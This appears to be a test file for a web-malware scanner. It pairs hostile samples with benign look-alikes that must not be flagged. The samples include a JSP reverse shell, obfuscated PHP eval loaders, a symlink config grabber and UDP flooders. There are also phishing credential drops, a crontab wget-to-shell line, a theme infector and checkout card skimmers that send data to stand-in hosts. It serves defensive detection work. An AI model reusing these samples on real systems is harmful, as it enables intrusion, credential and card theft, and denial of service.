import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// The misses of session 43's fair samples (bench/redteam/README-corpus-s43.md), each written again by us, and the
// look-alikes that must not be malicious.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
const why = (r: { score: number; findings: readonly { rule: string; score: number }[] }) => `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`;

// A page's style sheet, long enough that the literal holding it is read by its ends.
const STYLE = Array.from({ length: 40 }, (_, i) => `.c${i} { color: #${((i * 37) % 4096).toString(16).padStart(3, '0')}; margin: ${i}px; }`).join('\n');
// An executable's first bytes and a hundred more, as C# writes a byte array.
const PE = ['0x4d', '0x5a', '0x90', '0x00', ...Array.from({ length: 124 }, (_, i) => `0x${((i * 53) % 256).toString(16).padStart(2, '0')}`), '0x50', '0x45', '0x00', '0x00', '0x4c', '0x01', ...Array.from({ length: 60 }, () => '0x00')].join(',');

const PAGES: [string, string, string][] = [
  [
    'a shell "encrypter" writing posted code, packed, into a page whose style sheet is one long literal, under a name the form gives (H40)',
    '/srv/www/enc.php',
    `<?php
if (isset($_POST['go'])) {
  $enc = 'base6' . '4_encode';
  $pack = 'gzde' . 'flate';
  $body = $_POST['code'];
  $out = $_POST['name'];
  $packed = $pack($body);
  $page = "<style>\n${STYLE}\n</style><form method=post><textarea name=x><?php echo \\"" . $enc($packed) . "\\"; ?></textarea></form>";
  $fh = fopen($out, 'w');
  fwrite($fh, "<html><body>");
  $fa = fopen($out, 'a+');
  fwrite($fa, $page);
  echo "<a href=" . htmlspecialchars($out) . ">done</a>";
}
`,
  ],
  [
    'a config grabber linking every account\'s CMS configuration into a folder of its own (H40)',
    '/srv/www/cfg.php',
    `<?php
@mkdir('grab', 0755);
foreach (file('/etc/passwd') as $line) {
  $who = explode(':', $line)[0];
  symlink('/home/' . $who . '/public_html/wp-config.php', 'grab/' . $who . '-wp.txt');
  symlink('/home/' . $who . '/public_html/configuration.php', 'grab/' . $who . '-joomla.txt');
}
echo 'ok';
`,
  ],
  [
    'an ASP.NET page writing an executable held as a byte array to the temp folder and starting it through a Process object (H42)',
    '/inetpub/wwwroot/u.aspx',
    `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  byte[] blob = new byte[] {
${PE} };
  string dir = Path.Combine(Path.GetTempPath(), "upd");
  Directory.CreateDirectory(dir);
  string exe = Path.Combine(dir, "svc.exe");
  FileStream fs = File.Create(exe);
  fs.Write(blob, 0, blob.Length);
  fs.Close();
  System.Diagnostics.Process p = new System.Diagnostics.Process();
  p.StartInfo.CreateNoWindow = true;
  p.StartInfo.FileName = exe;
  p.Start();
}
</script>
`,
  ],
  [
    'a JSP reverse shell holding the Runtime before it runs /bin/sh and wiring it to a socket (H42)',
    '/var/lib/tomcat/webapps/ROOT/r.jsp',
    `<%@ page import="java.io.*,java.net.*" %>
<%
Runtime r = Runtime.getRuntime();
final Process p = r.exec("/bin/sh");
final Socket s = new Socket("192.0.2.10", 4444);
final InputStream from = s.getInputStream();
final OutputStream to = p.getOutputStream();
new Thread(() -> { try { int c; while ((c = from.read()) != -1) { to.write(c); to.flush(); } } catch (IOException e) { } }).start();
InputStream out = p.getInputStream();
OutputStream back = s.getOutputStream();
int c; while ((c = out.read()) != -1) back.write(c);
%>
`,
  ],
  [
    'a class whose constructor evals what the file\'s own Base32 decoder makes of a literal (H43)',
    '/srv/www/b.php',
    `<?php\nclass Job {\n  public $src = null;\n  public $code = null;\n  function __construct() {\n    $this->src = 'mv3gc3bierpvat2tkrnxuzlsn5ossoy';\n    $this->code = @unb32($this->src);\n    @eval('/*x*/' . $this->code . '/*x*/');\n  }\n}\nnew Job();\nfunction unb32($s) {\n  $out = ''; $v = 0; $bits = 0;\n  for ($i = 0, $n = strlen($s); $i < $n; $i++) {\n    $v <<= 5;\n    if ($s[$i] >= 'a' && $s[$i] <= 'z') $v += ord($s[$i]) - 97;\n    elseif ($s[$i] >= '2' && $s[$i] <= '7') $v += 24 + $s[$i];\n    else exit(1);\n    $bits += 5;\n    while ($bits >= 8) { $bits -= 8; $out .= chr($v >> $bits); $v &= (1 << $bits) - 1; }\n  }\n  return $out;\n}\n`,
  ],
  [
    'an application file that includes a PHP file from its uploads folder when a cookie is set (H43)',
    '/srv/www/web/config.php',
    `<?php\nif (isset($_COOKIE['k'])) {\n    include_once dirname(__FILE__) . '/uploads/thumb.php';\n}\nrequire_once dirname(__FILE__) . '/../app/bootstrap.php';\n`,
  ],
  [
    'a loader joining a decoder\'s name from two variables and running it twice over a literal built by .= pieces (H45)',
    '/srv/www/c.php',
    `<?php\n$z = "";\n$z .= "UEQ5";\n$z .= "d2FI";\n$z .= "QWdj";\n$z .= "M2x6";\n$z .= "ZEdW";\n$z .= "dEtD";\n$z .= "UmZS";\n$z .= "MFZV";\n$z .= "V3lk";\n$z .= "akox";\n$z .= "MHBP";\n$z .= "eUEv";\n$z .= "UGc9";\n$z .= "PQ==";\n$a = "base"; $b = "64_decode"; $c = $a.$b; $s = $c($z); $s = $c($s); eval($s);\n`,
  ],
  [
    'a loader writing code fetched from a CDN to a temporary file and including it (H45)',
    '/srv/www/m.php',
    `<?php\nfunction pull($u) { $c = @file_get_contents($u); if ($c === false) { $h = curl_init(); curl_setopt($h, CURLOPT_URL, $u); curl_setopt($h, CURLOPT_RETURNTRANSFER, 1); $c = curl_exec($h); } return $c; }\n$url = "https://cdn.example.invalid/gh/x/y@main/z.txt";\n$code = pull($url);\nif ($code !== false) {\n  if (strpos($code, '<?php') === false) $code = "<?php\\n" . $code;\n  $tmp = tempnam(sys_get_temp_dir(), 'rc_');\n  file_put_contents($tmp, $code);\n  include $tmp;\n  unlink($tmp);\n}\n`,
  ],
  [
    'a file manager whose file functions are spelt as arrays of single characters, looked up by key (H45)',
    '/srv/www/inv.php',
    `<?php\nfunction fn_of($k) {\n  $map = [\n    'up' => ['m','o','v','e','_','u','p','l','o','a','d','e','d','_','f','i','l','e'],\n    'put' => ['f','i','l','e','_','p','u','t','_','c','o','n','t','e','n','t','s'],\n    'rm' => ['u','n','l','i','n','k'],\n    'ls' => ['s','c','a','n','d','i','r'],\n  ];\n  return implode('', $map[$k]);\n}\n$d = $_GET['d'] ?? '.';\nforeach (fn_of('ls')($d) as $f) echo htmlspecialchars($f), '<br>';\nif (isset($_FILES['f'])) fn_of('up')($_FILES['f']['tmp_name'], $d . '/' . $_FILES['f']['name']);\nif (isset($_POST['rm'])) fn_of('rm')($d . '/' . $_POST['rm']);\nif (isset($_POST['body'])) fn_of('put')($d . '/' . $_POST['name'], $_POST['body']);\n`,
  ],
];

const LOOKALIKES: [string, string, string][] = [
  [
    'a template engine compiling a template to a temporary file and including it',
    '/srv/www/lib/view.php',
    `<?php\n// docs: https://www.example.com/view\nfunction render($name, array $vars) {\n  $src = file_get_contents(__DIR__ . '/views/' . basename($name) . '.tpl');\n  $php = preg_replace('/\\{\\{\\s*(\\w+)\\s*\\}\\}/', '<?= htmlspecialchars($$1) ?>', $src);\n  $tmp = tempnam(sys_get_temp_dir(), 'view_');\n  file_put_contents($tmp, $php);\n  extract($vars);\n  include $tmp;\n  unlink($tmp);\n}\n`,
  ],
  [
    'a captcha drawing characters picked from arrays of single letters',
    '/srv/www/lib/captcha.php',
    `<?php\n$vowels = ['a','e','i','o','u'];\n$consonants = ['b','c','d','f','g','h','k','m','n','p','r','s','t'];\n$digits = ['2','3','4','5','6','7','8','9'];\n$code = '';\nfor ($i = 0; $i < 6; $i++) $code .= $i % 2 ? $vowels[array_rand($vowels)] : $consonants[array_rand($consonants)];\n$_SESSION['captcha'] = $code . $digits[array_rand($digits)];\n`,
  ],
  [
    'a spelling game whose word bank is arrays of letters (copy, mail, touch, rename, system, exec) beside a form',
    '/srv/www/games/spell.php',
    `<?php\n$bank = [\n  ['c', 'o', 'p', 'y'], ['m', 'a', 'i', 'l'], ['t', 'o', 'u', 'c', 'h'],\n  ['r', 'e', 'n', 'a', 'm', 'e'], ['s', 'y', 's', 't', 'e', 'm'], ['e', 'x', 'e', 'c'],\n];\n$word = $bank[array_rand($bank)];\n$guess = strtolower(trim($_POST['guess'] ?? ''));\necho $guess === implode('', $word) ? 'Right!' : 'Spell: ' . implode(' ', array_map('strtoupper', $word));\n`,
  ],
  [
    'a two-factor class decoding Base32 secrets beside a template that evals its compiled code',
    '/srv/www/lib/totp.php',
    `<?php\nclass Totp {\n  const ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';\n  const TEST_SECRET = 'GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ';\n  static function decode($s) { $out = ''; $v = 0; $b = 0; foreach (str_split(rtrim($s, '=')) as $c) { $v = ($v << 5) | strpos(self::ALPHABET, $c); $b += 5; if ($b >= 8) { $b -= 8; $out .= chr(($v >> $b) & 255); } } return $out; }\n}\nfunction render($compiled, $vars) { extract($vars); eval('?>' . file_get_contents($compiled)); }\n`,
  ],
  [
    'language and preview files included on a request\'s choice from the application\'s own folders',
    '/srv/www/index.php',
    `<?php\nif (isset($_GET['lang'])) include __DIR__ . '/lang/' . basename($_GET['lang']) . '.php';\nif (!empty($_GET['preview'])) require __DIR__ . '/cache/preview.php';\n`,
  ],
  [
    'a page builder writing a long template with a form\'s title into its own cache file',
    '/srv/www/builder.php',
    `<?php
$title = htmlspecialchars($_POST['title'] ?? 'Home');
$page = "<style>\n${STYLE}\n</style><h1>" . $title . "</h1>";
file_put_contents(__DIR__ . '/cache/index.html', $page);
`,
  ],
  [
    'a server page listing the system\'s accounts from /etc/passwd with their shells',
    '/srv/www/admin/users.php',
    `<?php
foreach (file('/etc/passwd') as $line) {
  $f = explode(':', trim($line));
  if (count($f) < 7) continue;
  echo htmlspecialchars($f[0] . ' ' . $f[5] . ' ' . $f[6]), "<br>";
}
`,
  ],
  [
    'a hosting account\'s backup of its own web folder',
    '/srv/www/backup.php',
    `<?php
$user = get_current_user();
$web = '/home/' . $user . '/public_html/';
if (is_dir($web)) {
  $zip = new ZipArchive();
  $zip->open('/home/' . $user . '/backup.zip', ZipArchive::CREATE);
  foreach (scandir($web) as $f) if (is_file($web . $f)) $zip->addFile($web . $f, $f);
  $zip->close();
}
`,
  ],
  [
    'an ASP.NET upload check refusing executables by their first bytes, saving the rest',
    '/inetpub/wwwroot/up.aspx',
    `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  if (Request.Files.Count == 0) return;
  var f = Request.Files[0];
  byte[] head = new byte[2];
  f.InputStream.Read(head, 0, 2);
  if (head[0] == 0x4d && head[1] == 0x5a) { Response.StatusCode = 415; return; }
  f.InputStream.Position = 0;
  using (FileStream fs = File.Create(Server.MapPath("~/uploads/" + Path.GetFileName(f.FileName)))) f.InputStream.CopyTo(fs);
}
</script>
`,
  ],
  [
    'a JSP health page reading the heap and checking the database port',
    '/var/lib/tomcat/webapps/ROOT/health.jsp',
    `<%@ page import="java.io.*,java.net.*" %>
<%
Runtime rt = Runtime.getRuntime();
long used = rt.totalMemory() - rt.freeMemory();
boolean db = false;
try (Socket s = new Socket("127.0.0.1", 5432)) { s.getInputStream(); s.getOutputStream(); db = true; } catch (IOException e) { }
out.print("heap " + used + " db " + db);
%>
`,
  ],
];

const VARIANTS: [string, string, string][] = [
  [
    'the classic flooder page: a payload built by a loop, while (1) until the clock passes the end (red team S43B-26)',
    '/srv/www/d.php',
    `<?php\nignore_user_abort(1);\n$ip = $_GET['ip'];\n$max = time() + intval($_GET['time']);\n$out = '';\nfor ($i = 0; $i < 65000; $i++) { $out .= 'X'; }\nwhile (1) {\n  if (time() > $max) { break; }\n  $fp = fsockopen("udp://$ip", rand(1, 65000), $errno, $errstr, 5);\n  if ($fp) { fwrite($fp, $out); fclose($fp); }\n}\n`,
  ],
  [
    'a phishing drop sending its page on with a relative, lower-case Location (red team S43B-33, -35)',
    '/srv/www/login/step1.php',
    `<?php\n$ip = $_SERVER['REMOTE_ADDR'];\n$body = "login: " . $_POST['user'] . "\\npassword: " . $_POST['password'] . "\\nip: " . $ip;\nmail('box@example.invalid', 'rez', $body);\nheader("location: step2.html");\n`,
  ],
  [
    'the Java reverse shell as a class of its own kept as .jsp (H42)',
    '/var/lib/tomcat/webapps/ROOT/cls.jsp',
    `import java.io.*;
import java.net.*;
public class Link implements Runnable {
  Socket sock; PrintWriter net; BufferedReader in; PrintWriter sh;
  public void run() {
    try {
      Runtime rt = Runtime.getRuntime();
      Process p = rt.exec("/bin/sh");
      sh = new PrintWriter(p.getOutputStream());
      BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
      String l; while ((l = r.readLine()) != null) { net.println(l); net.flush(); }
    } catch (Exception e) { }
  }
  public void open() throws IOException {
    sock = new Socket("192.0.2.10", 8080);
    net = new PrintWriter(sock.getOutputStream(), true);
    in = new BufferedReader(new InputStreamReader(sock.getInputStream()));
  }
}
`,
  ],
];

describe('scan: session 43 samples, the misses written again', () => {
  for (const [name, path, src] of PAGES) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every page', () => assert.equal(PAGES.length, 9));
  for (const [name, path, src] of LOOKALIKES) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 10));
  for (const [name, path, src] of VARIANTS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every variant', () => assert.equal(VARIANTS.length, 3));
  it('reports the line of a write after a long literal as the text\'s own', () => {
    const r = scan(PAGES[0]![2], PAGES[0]![1]);
    const flow = r.findings.find((f) => f.rule === 'mamori:flow');
    assert.ok(flow, why(r));
    const lines = PAGES[0]![2].split('\n');
    assert.match(lines[(flow.line ?? 0) - 1] ?? '', /fwrite\(\$fa, \$page\)/);
  });
});

// Families no sample of this session held but every collection does, written by us from their published shapes, and
// the ordinary code each must not be confused with.
const FAMILIES: [string, string, string][] = [
  [
    'the symlink bypass: the server\'s root linked into the site, with an .htaccess that lists it',
    '/srv/www/sym.php',
    `<?php\n@mkdir('s', 0777);\n@symlink('/', 's/root');\nfile_put_contents('s/.htaccess', "Options Indexes FollowSymLinks\\nDirectoryIndex none.htm\\n");\necho '<a href="s/root/">/</a>';\n`,
  ],
  [
    'a Zone-H notifier posting a list of defaced sites under a nick',
    '/srv/www/zh.php',
    `<?php\nforeach (explode("\\n", $_POST['sites']) as $s) {\n  $c = curl_init('http://www.zone-h.org/notify/single');\n  curl_setopt($c, CURLOPT_POST, 1);\n  curl_setopt($c, CURLOPT_POSTFIELDS, 'defacer=' . urlencode($_POST['nick']) . '&domain1=' . urlencode(trim($s)) . '&hackmode=1&reason=1');\n  curl_exec($c);\n}\n`,
  ],
  [
    'a UDP flooder: the request\'s host, random ports, a large payload, until the clock says stop',
    '/srv/www/f.php',
    `<?php\nset_time_limit(0);\n$to = $_GET['h'];\n$stop = time() + (int) $_GET['t'];\n$data = str_repeat('Z', 60000);\nwhile (time() < $stop) {\n  $s = @fsockopen('udp://' . $to, mt_rand(1, 65535), $e, $m, 3);\n  if ($s) { fwrite($s, $data); fclose($s); }\n}\n`,
  ],
  [
    'a WordPress XML-RPC password guesser over a posted list',
    '/srv/www/x.php',
    `<?php\n$site = $_POST['site'];\nforeach (explode("\\n", $_POST['words']) as $w) {\n  $body = '<?xml version="1.0"?><methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value>admin</value></param><param><value>' . htmlspecialchars(trim($w)) . '</value></param></params></methodCall>';\n  $c = curl_init($site . '/xmlrpc.php');\n  curl_setopt($c, CURLOPT_POSTFIELDS, $body);\n  curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);\n  if (strpos((string) curl_exec($c), 'isAdmin') !== false) { echo 'hit: ' . htmlspecialchars($w); break; }\n}\n`,
  ],
  [
    'a phishing kit\'s drop: the password and the visitor\'s address to a Telegram bot, then the real site',
    '/srv/www/login/next.php',
    `<?php\n$t = "user: " . $_POST['login'] . "\\npass: " . $_POST['passwd'] . "\\nfrom: " . $_SERVER['REMOTE_ADDR'];\nfile_get_contents('https://api.telegram.org/bot0000:placeholder/sendMessage?chat_id=1&text=' . urlencode($t));\nheader('Location: https://mail.example.invalid/');\n`,
  ],
  [
    'the same drop by mail to an address held in a variable',
    '/srv/www/login/post.php',
    `<?php\n$box = 'drop@example.invalid';\n$m = "Email: {$_POST['email']}\\nPassword: {$_POST['password']}\\nIP: {$_SERVER['REMOTE_ADDR']}\\nAgent: {$_SERVER['HTTP_USER_AGENT']}";\nmail($box, 'result', $m);\nheader('Location: https://portal.example.invalid/');\n`,
  ],
  [
    'a search doorway: crawlers get another site\'s pages, visitors from a search are sent to a shop',
    '/srv/www/wp-content/index2.php',
    `<?php\n$q = $_GET['q'] ?? '';\n$agent = $_SERVER['HTTP_USER_AGENT'] ?? '';\nif (preg_match('/googlebot|bingbot/i', $agent)) { echo file_get_contents('http://feed.example.invalid/p.php?q=' . urlencode($q)); exit; }\nif (preg_match('/google|bing|yahoo/i', $_SERVER['HTTP_REFERER'] ?? '')) { header('Location: https://shop.example.invalid/?q=' . urlencode($q)); exit; }\n`,
  ],
  [
    'the wp-config.php loader: an include of an icon whose path is spelt in octal escapes',
    '/srv/www/wp-config.php',
    `<?php\n@include "\\057srv\\057www\\057wp-content\\057uploads\\057.cache\\057favicon_3f2a.ico";\ndefine('DB_NAME', 'wp');\ndefine('DB_USER', 'wp');\n`,
  ],
  [
    'a crontab entry installed from PHP that pipes a downloaded script to a shell',
    '/srv/www/c.php',
    `<?php\n$line = '*/5 * * * * wget -q -O- http://192.0.2.10/u.sh | sh';\nshell_exec('(crontab -l 2>/dev/null; echo "' . $line . '") | crontab -');\n`,
  ],
  [
    'an infector writing fetched code into every theme\'s functions.php',
    '/srv/www/wp-content/plugins/x/x.php',
    `<?php\n$code = file_get_contents('http://192.0.2.10/payload.txt');\nforeach (glob(ABSPATH . 'wp-content/themes/*/functions.php') as $f) {\n  $old = file_get_contents($f);\n  if (strpos($old, 'tmp_marker') === false) file_put_contents($f, "<?php\\n" . $code . "\\n?>" . $old);\n}\n`,
  ],
  [
    'a server-side card skimmer appending each checkout\'s card and security code to a file in the shop\'s media folder',
    '/srv/shop/app/code/local/Pay/Model/Observer.php',
    `<?php\nif (!empty($_POST['payment']['cc_number'])) {\n  $row = base64_encode(json_encode(['n' => $_POST['payment']['cc_number'], 'x' => $_POST['payment']['cc_exp_month'], 'c' => $_POST['payment']['cc_cid']]));\n  file_put_contents(__DIR__ . '/../../../../../media/catalog/cache.jpg', $row . "\\n", FILE_APPEND);\n}\n`,
  ],
  [
    'a card skimmer gathering every field on a checkout page and sending them through an image\'s address',
    '/srv/shop/js/mage/cookies.js',
    `(function () {
  function grab() {
    var f = document.querySelectorAll('input, select, textarea'), o = {};
    for (var i = 0; i < f.length; i++) if (f[i].name) o[f[i].name] = f[i].value;
    if (o['payment[cc_number]'] || o['cardnumber']) {
      var m = new Image();
      m.src = 'https://cdn-stats.example.invalid/pixel.gif?d=' + btoa(JSON.stringify(o));
    }
  }
  if (/onepage|checkout/.test(window.location.href)) document.addEventListener('click', grab, true);
})();
`,
  ],
  [
    'a card skimmer posting every input of the checkout to an address hidden in Base64',
    '/srv/shop/skin/frontend/default/js/lib.js',
    `window.addEventListener('load', function () {
  if (location.pathname.indexOf('checkout') < 0) return;
  document.querySelector('#place-order').addEventListener('click', function () {
    var data = {};
    [].forEach.call(document.getElementsByTagName('input'), function (e) { data[e.id] = e.value; });
    var x = new XMLHttpRequest();
    x.open('POST', atob('aHR0cHM6Ly9hcGktanF1ZXJ5LmV4YW1wbGUuaW52YWxpZC9j'));
    x.send(btoa(encodeURIComponent(JSON.stringify(data))) + '&cvv=' + (data.cc_cid || data.cvv || ''));
  });
});
`,
  ],
  [
    'a card skimmer sending a form\'s fields over a WebSocket when they hold a card',
    '/srv/shop/media/js/x.js',
    `var ws = new WebSocket('wss://ws.example.invalid/s');
document.addEventListener('submit', function () {
  var out = [];
  document.querySelectorAll('form input').forEach(function (i) { out.push(i.name + '=' + i.value); });
  if (out.join('&').match(/card|cc_num|cvc/i)) ws.send(btoa(out.join('&')));
}, true);
`,
  ],
];

const FAMILY_LOOKALIKES: [string, string, string][] = [
  [
    'a checkout\'s own card check posting the last four digits to its server',
    '/srv/shop/js/checkout.js',
    `// checkout validation: card number by Luhn, sent to our own server
document.querySelector('#checkout-form').addEventListener('submit', function (e) {
  var n = document.querySelector('[name="cc_number"]').value.replace(/\\s+/g, '');
  if (!luhn(n)) { e.preventDefault(); return; }
  fetch('/checkout/validate', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ last4: n.slice(-4) }) });
});
`,
  ],
  [
    'an analytics pixel on every page, the checkout too',
    '/srv/shop/js/stats.js',
    `// analytics on every page, the checkout too
(function () {
  var p = new Image();
  p.src = 'https://stats.example.com/p.gif?u=' + encodeURIComponent(location.href) + '&r=' + encodeURIComponent(document.referrer);
  if (/checkout/.test(location.pathname)) p.src += '&funnel=checkout';
})();
`,
  ],
  [
    'a form autosave keeping every field but the card\'s, posted to the site\'s API',
    '/srv/shop/js/autosave.js',
    `// a form autosave: every field kept in localStorage, posted to the site's draft API
function autosave(form) {
  var data = {};
  form.querySelectorAll('input, select, textarea').forEach(function (el) { if (el.type !== 'password' && !/card|cvv|cvc/i.test(el.name)) data[el.name] = el.value; });
  localStorage.setItem('draft', JSON.stringify(data));
  fetch('https://www.example.com/api/drafts', { method: 'POST', body: JSON.stringify(data) });
}
`,
  ],
  [
    'a payment provider\'s tokenization: the card\'s fields by id to its API',
    '/srv/shop/js/pay.js',
    `// payment provider tokenization: the card fields to the provider's API, a token back
document.getElementById('pay').addEventListener('click', function () {
  var card = { number: document.getElementById('cardnumber').value, cvc: document.getElementById('cvc').value, exp: document.getElementById('exp').value };
  fetch('https://api.payments.example.com/v1/tokens', { method: 'POST', headers: { Authorization: 'Bearer pk_live_x' }, body: JSON.stringify({ card: card }) })
    .then(function (r) { return r.json(); }).then(function (t) { document.getElementById('token').value = t.id; document.getElementById('checkout').submit(); });
});
`,
  ],
  [
    'a payment module sending the card to its gateway and logging only the last four digits',
    '/srv/shop/modules/pay/pay.php',
    `<?php\n$c = curl_init('https://gateway.example.com/v1/charge');\ncurl_setopt($c, CURLOPT_POSTFIELDS, http_build_query(['number' => $_POST['card_number'], 'cvc' => $_POST['card_cvc'], 'amount' => $total]));\n$r = curl_exec($c);\nfile_put_contents(__DIR__ . '/pay.log', date('c') . ' card ****' . substr($_POST['card_number'], -4) . ' ' . $r . "\\n", FILE_APPEND);\n`,
  ],
  [
    'a view inlining its icons: $this->include() of an SVG, and include of another',
    '/srv/www/views/trace.html.php',
    `<span><?= $this->include('assets/images/icon-minus-square.svg'); ?></span>\n<?php include 'assets/logo.svg'; ?>\n`,
  ],
  [
    'a hosting panel page listing the account\'s crontab and an installer printing a one-line install',
    '/srv/www/panel/cron.php',
    `<?php\necho '<pre>' . htmlspecialchars(shell_exec('crontab -l 2>&1')) . '</pre>';\necho '<p>To install the agent run: <code>curl -fsSL https://get.example.com/agent | sh</code></p>';\n`,
  ],
  [
    'a malware cleaner taking a known injection out of every theme\'s functions.php',
    '/srv/www/tools/clean.php',
    `<?php\n$sig = file_get_contents(__DIR__ . '/signatures.txt');\nforeach (glob(__DIR__ . '/../wp-content/themes/*/functions.php') as $f) {\n  $c = file_get_contents($f);\n  $clean = preg_replace('#<\\?php if \\(isset\\(\\$_REQUEST\\[.action.\\]\\).*?\\?>#s', '', $c);\n  if ($clean !== $c) file_put_contents($f, $clean);\n}\n`,
  ],
  [
    'a deployment linking a release into place',
    '/srv/deploy/switch.php',
    `<?php\n$rel = '/var/www/releases/' . basename($argv[1]);\n@unlink('/var/www/current');\nsymlink($rel, '/var/www/current');\nsymlink('/var/www/shared/uploads', $rel . '/uploads');\n`,
  ],
  [
    'a site monitor looking its own domain up in Zone-H\'s archive',
    '/srv/www/admin/monitor.php',
    `<?php\n$me = 'shop.example.com';\n$page = file_get_contents('https://www.zone-h.org/archive/domain=' . urlencode($me));\nif (strpos($page, $me) !== false) mail('ops@example.com', 'defacement reported', $me);\n`,
  ],
  [
    'a StatsD client sending a metric over UDP',
    '/srv/www/lib/stats.php',
    `<?php\nfunction stat_count(string $name, int $n = 1): void {\n  $s = @fsockopen('udp://' . (getenv('STATSD_HOST') ?: '127.0.0.1'), 8125, $e, $m, 1);\n  if (!$s) return;\n  fwrite($s, str_repeat(' ', 0) . "$name:$n|c");\n  fclose($s);\n}\nstat_count('page.' . preg_replace('/\\W/', '_', $_GET['p'] ?? 'home'));\n`,
  ],
  [
    'a blog client posting one article through XML-RPC',
    '/srv/www/tools/publish.php',
    `<?php\n$cfg = require __DIR__ . '/config.php';\n$x = xmlrpc_encode_request('wp.newPost', [1, $cfg['user'], $cfg['pass'], ['post_title' => $_POST['title'], 'post_content' => $_POST['body']]]);\n$c = curl_init($cfg['site'] . '/xmlrpc.php');\ncurl_setopt($c, CURLOPT_POSTFIELDS, $x);\nforeach ([1, 2, 3] as $try) if (curl_exec($c) !== false) break;\n`,
  ],
  [
    'a sign-up page mailing the new member their login and sending them on',
    '/srv/www/signup.php',
    `<?php\n$admin = 'webmaster@example.com';\n$db = new PDO('sqlite:' . __DIR__ . '/members.db');\n$db->prepare('INSERT INTO members (email, hash, ip) VALUES (?, ?, ?)')->execute([$_POST['email'], password_hash($_POST['password'], PASSWORD_DEFAULT), $_SERVER['REMOTE_ADDR']]);\nmail($_POST['email'], 'Welcome', "Your login: {$_POST['email']}\\nYour password: {$_POST['password']}");\nmail($admin, 'New member', $_POST['email']);\nheader('Location: https://www.example.com/welcome');\n`,
  ],
  [
    'a renderer serving crawlers a prerendered copy of the page',
    '/srv/www/prerender.php',
    `<?php\nif (preg_match('/googlebot|bingbot|yandex/i', $_SERVER['HTTP_USER_AGENT'] ?? '')) {\n  echo file_get_contents('https://prerender.example.com/render?url=' . urlencode('https://www.example.com' . $_SERVER['REQUEST_URI']));\n  exit;\n}\nrequire __DIR__ . '/app.php';\n`,
  ],
];

describe('scan: common families written from their published shapes (session 43)', () => {
  for (const [name, path, src] of FAMILIES) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every family', () => assert.equal(FAMILIES.length, 14));
  for (const [name, path, src] of FAMILY_LOOKALIKES) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every look-alike', () => assert.equal(FAMILY_LOOKALIKES.length, 14));
});

// Dual-use shapes: flagged for a look, not called malicious (an audit and a recovery tool are the same code).
const SUSPICIOUS: [string, string, string][] = [
  [
    'a shared-hosting neighbour finder: the accounts of /etc/passwd whose web folder is readable (H40)',
    '/srv/www/jump.php',
    `<?php
$rows = file('/etc///passwd');
$open = [];
foreach ($rows as $row) {
  $f = explode(':', $row);
  if ((int) $f[2] < 500) continue;
  $web = '/home/' . trim($f[0]) . '/public_html/';
  $mode = substr(sprintf('%o', fileperms($web)), -1);
  if ($mode >= 4) $open[] = $web;
}
foreach ($open as $w) echo htmlspecialchars($w), "<br>";
`,
  ],
  [
    'a one-shot WordPress administrator maker that deletes itself',
    '/srv/www/wp-admin/up.php',
    `<?php\nrequire __DIR__ . '/../wp-load.php';\n$id = wp_insert_user(['user_login' => 'helpdesk', 'user_pass' => 'Changeme-1', 'role' => 'administrator']);\n@unlink(__FILE__);\n`,
  ],
];

describe('scan: session 43, shapes that are suspicious only', () => {
  for (const [name, path, src] of SUSPICIOUS) {
    it(`suspicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'suspicious', why(r));
    });
  }
  it('ran every suspicious shape', () => assert.equal(SUSPICIOUS.length, 2));
});
